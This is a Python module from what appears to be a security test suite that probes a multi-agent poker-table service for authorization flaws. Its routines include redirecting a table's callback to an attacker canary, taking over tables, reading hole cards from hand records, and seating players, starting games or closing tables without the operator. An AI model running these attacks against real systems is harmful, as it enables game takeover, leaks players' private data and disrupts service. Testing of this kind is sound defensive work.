"""Attacks on tables: takeover, and commands reserved for the table's lobby."""

from casino_contracts import RoomKey

from casino.attack.attack import attack
from casino.attack.attacks.reply import Depth
from casino.attack.bindings import Json
from casino.attack.canary import Canary
from casino.attack.judge import by_admission, by_answer
from casino.attack.outcome import Outcome, not_applicable, refused, succeeded
from casino.attack.target import Agent, Room, Target, Token, Try

_NO_TABLE = "no room has a table that may be attacked"
_OURS = "mallory's own key"


def _configuration(target: Target, room: Room, canary: Canary) -> Json:
    """Return a table's configuration from public facts, with the attacker's callback."""
    return {
        "tableId": room.table_id,
        "casinoName": target.casino_name,
        "config": room.config,
        "epoch": room.epoch,
        "gameType": room.game_type,
        "casinoCallback": {
            "agentCardUrl": canary.card_url,
            "eventSkill": "recordGameEvent",
            "secret": _OURS,
        },
    }


async def _on_tables(target: Target, skill: str, data: Json) -> list[Try]:
    """Call a skill of every table that serves a room, with all tokens an outsider can try."""
    tries: list[Try] = []
    for table, room in target.tables:
        tokens = target.tokens("table", room.table_id, room.room_id, _OURS)
        tries += await target.call_over_all(table, skill, data, tokens)
    return tries


@attack("identity", "C1", breaks="a room without players loses its table")
async def rebind_table(target: Target) -> Outcome:
    """Reconfigure a table with its public values and the attacker's callback."""
    if not target.tables:
        return not_applicable(_NO_TABLE)
    canary = await target.new_canary()
    tries: list[Try] = []
    for table, room in target.tables:
        request = _configuration(target, room, canary)
        tokens = target.tokens("table", room.table_id, _OURS)
        tries += await target.call_over_all(table, "configureTable", request, tokens)
        if any(try_.reply.depth is Depth.ANSWERED for try_ in tries):
            return by_admission(tries, await _freed(target, table))
    return by_admission(tries)


@attack("identity", "C4")
async def begin_higher_epoch(target: Target) -> Outcome:
    """Take over a table with a higher epoch and the attacker's own seats.

    Two players get the same seat, so that a vulnerable table refuses the message unharmed.
    """
    if not target.tables:
        return not_applicable(_NO_TABLE)
    canary = await target.new_canary()
    seat = {"playerId": "m", "displayName": "M", "seatNumber": 0, "stack": 9_000_000}
    seats = [{**seat, "agentCardUrl": canary.card_url} for _ in range(2)]
    tries: list[Try] = []
    for table, room in target.tables:
        request = {
            **_configuration(target, room, canary),
            "epoch": room.epoch + 7,
            "seats": seats,
        }
        tokens = target.tokens("table", room.table_id, _OURS)
        tries += await target.call_over_all(table, "configureTable", request, tokens)
    return by_admission(tries)


@attack("identity", "C4")
async def take_free_table(target: Target) -> Outcome:
    """Configure a free table for a room of the attacker."""
    if not target.free_tables:
        return not_applicable("no table is free")
    canary = await target.new_canary()
    request = {
        "tableId": "mallory",
        "casinoName": "Mallory's",
        "config": target.default_config,
        "casinoCallback": {
            "agentCardUrl": canary.card_url,
            "eventSkill": "recordGameEvent",
            "secret": _OURS,
        },
    }
    tries: list[Try] = []
    for table in target.free_tables:
        tries += await target.call_over_all(
            table, "configureTable", request, target.tokens("table", _OURS)
        )
        if any(try_.reply.depth is Depth.ANSWERED for try_ in tries):
            return by_admission(tries, await _freed(target, table))
    return by_admission(tries)


@attack("identity", "C1")
async def read_hand_records(target: Target) -> Outcome:
    """Read the record of a completed hand, including all hole cards."""
    tries: list[Try] = []
    for table, room in target.tables:
        tokens = target.tokens("table", room.table_id, room.room_id, _OURS)
        for hand_id in room.hand_ids[:1]:
            # Older tables accepted the key within the message.
            for data in ({"handId": hand_id}, {"handId": hand_id, "secret": _OURS}):
                tries += await target.call_over_all(table, "handRecord", data, tokens)
    if not tries:
        return not_applicable("no hand was completed yet")
    return by_admission(tries)


@attack("identity", "C4")
async def seat_at_table(target: Target) -> Outcome:
    """Take a seat at a table without the operator.

    The stack exceeds the maximum buy-in, so that a vulnerable table refuses the message unharmed.
    """
    canary = await target.new_canary()
    tries: list[Try] = []
    for table, room in target.tables:
        request = {
            "playerId": "mallory",
            "displayName": "Mallory",
            "agentCardUrl": canary.card_url,
            "actionSkill": "act",
            "startingStack": room.config["maxBuyIn"] * 2,
        }
        tokens = target.tokens("table", room.table_id, _OURS)
        tries += await target.call_over_all(table, "registerPlayer", request, tokens)
    return by_admission(tries) if tries else not_applicable(_NO_TABLE)


@attack("identity", "C4")
async def start_game_at_table(target: Target) -> Outcome:
    """Start a session at a table without the operator.

    The blinds are invalid, so that a vulnerable table refuses the message unharmed.
    """
    request = {"smallBlind": 2_000_000, "bigBlind": 1_000_000}
    tries = await _on_tables(target, "startGame", request)
    return by_admission(tries) if tries else not_applicable(_NO_TABLE)


@attack("identity", "C4")
async def unseat_player(target: Target) -> Outcome:
    """Remove a player from a table.

    The player does not exist, so that a vulnerable table refuses the message unharmed.
    """
    tries = await _on_tables(target, "leaveTable", {"playerId": "nobody-of-this-name"})
    return by_admission(tries) if tries else not_applicable(_NO_TABLE)


@attack("identity", "C4")
async def read_table_summary(target: Target) -> Outcome:
    """Read more of a table than its status: seats, stacks and progress."""
    tries = await _on_tables(target, "tableSummary", {})
    if not tries:
        return not_applicable(_NO_TABLE)
    leaks = [try_ for try_ in tries if _has_details(try_.reply.data)]
    if leaks:
        leak = leaks[0]
        return succeeded(f"{leak.agent.name} answered {leak.token} over {leak.binding}")
    return refused(f"{len(tries)} ways returned the status at most")


def _has_details(summary: object) -> bool:
    return isinstance(summary, dict) and bool(
        summary.get("players") or {"message", "sequence", "keptFrom"} & summary.keys()
    )


@attack("identity", "C4", breaks="the table is closed: its room ends after the running hand")
async def close_table(target: Target) -> Outcome:
    """Close a table that serves a room."""
    tries = await _on_tables(target, "closeTable", {})
    return by_answer(tries, "the room must be opened again") if tries else not_applicable(_NO_TABLE)


async def _freed(target: Target, table: Agent) -> str:
    """Close a table that the attacker configured; return whether that undid the attack."""
    ours = Token(_OURS, RoomKey(_OURS).table)
    closed = await target.call(table, "closeTable", {}, ours)
    if closed.reply.depth is Depth.ANSWERED:
        return "undone: the table was closed and is free again"
    return f"not undone: {table.name} still has the attacker's callback"


ATTACKS = (
    rebind_table,
    begin_higher_epoch,
    take_free_table,
    read_hand_records,
    seat_at_table,
    start_game_at_table,
    unseat_player,
    read_table_summary,
    close_table,
)
